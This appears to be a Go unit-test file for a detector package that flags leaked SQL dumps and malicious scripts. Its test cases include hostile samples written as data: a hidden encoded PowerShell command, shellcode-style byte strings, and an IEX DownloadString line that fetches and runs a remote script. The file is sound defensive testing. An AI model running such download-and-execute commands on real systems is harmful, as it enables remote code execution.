@@ -0,0 +1,83 @@
+package detect
+
+import (
+	"strings"
+	"testing"
+)
+
+const sqlDump = `-- MySQL dump 10.13
+CREATE TABLE ` + "`users`" + ` (
+  ` + "`id`" + ` int(11) NOT NULL,
+  ` + "`username`" + ` varchar(255) NOT NULL,
+  ` + "`password`" + ` varchar(255) NOT NULL
+);
+INSERT INTO users (id, email, hash) VALUES (1, 'a@b.com', '5f4dcc3b5aa765d61d8327deb882cf99');
+INSERT INTO products (id, name) VALUES (1, 'test');
+`
+
+func TestDetectSQLDump(t *testing.T) {
+	evidence := detectSQLDump(sqlDump)
+	if len(evidence) != 2 {
+		t.Fatalf("expected 2 evidence lines, got %d: %v", len(evidence), evidence)
+	}
+	if !strings.HasPrefix(evidence[0], "CREATE TABLE") {
+		t.Fatalf("unexpected evidence %q", evidence[0])
+	}
+	if x := detectSQLDump("INSERT INTO products (id, name) VALUES (1, 'test');"); len(x) > 0 {
+		t.Fatalf("expected no evidence on a dump without credentials: %v", x)
+	}
+	if x := detectSQLDump("my username and password are secret"); len(x) > 0 {
+		t.Fatalf("expected no evidence without sql statements: %v", x)
+	}
+}
+
+func TestDetectMaliciousScript(t *testing.T) {
+	tt := []struct {
+		name     string
+		body     string
+		expected int
+	}{
+		{"encoded powershell", "powershell.exe -nop -w hidden -enc VwByAGkAdABlAC0ASABvAHMAdAAgACIAaABlAGwAbABvACAAZgByAG8AbQAgAGEAbgAgAGUAbgBjAG8AZABlAGQAIABjAG8AbQBtAGEAbgBkACIA", 1},
+		{"plain base64", "tool -e " + strings.Repeat("QUFBQUFB", 10), 0},
+		{"shellcode", "buf = \"" + strings.Repeat(`\x90\x31\xc0\x50`, 10) + "\"", 1},
+		{"short escape", `printf "\x41\x42"`, 0},
+		{"iex download", "IEX (New-Object Net.WebClient).DownloadString('http://x/a.ps1')", 1},
+		{"iex alone", "Invoke-Expression $command", 0},
+		{"harmless", "just some text\nwith multiple lines", 0},
+	}
+	for _, x := range tt {
+		if evidence := detectMaliciousScript(x.body); len(evidence) != x.expected {
+			t.Errorf("%s: expected %d evidence lines, got %v", x.name, x.expected, evidence)
+		}
+	}
+}
+
+func TestLineAt(t *testing.T) {
+	s := "first\nsecond line\nthird"
+	if x := lineAt(s, 8); x != "second line" {
+		t.Fatalf("got %q", x)
+	}
+	if x := lineAt(s, 0); x != "first" {
+		t.Fatalf("got %q", x)
+	}
+	if x := lineAt(s, len(s)-1); x != "third" {
+		t.Fatalf("got %q", x)
+	}
+}
+
+func TestRun(t *testing.T) {
+	d, ok := Lookup("sqldump")
+	if !ok {
+		t.Fatal("sqldump is not built in")
+	}
+	found := Run(sqlDump, []Detector{d})
+	if len(found["database dump"]) != 2 {
+		t.Fatalf("unexpected evidence %v", found)
+	}
+	if found := Run("nothing", []Detector{d}); len(found) != 0 {
+		t.Fatalf("expected no evidence, got %v", found)
+	}
+	if names := Names(); len(names) != 2 || names[0] != "script" {
+		t.Fatalf("unexpected names %v", names)
+	}
+}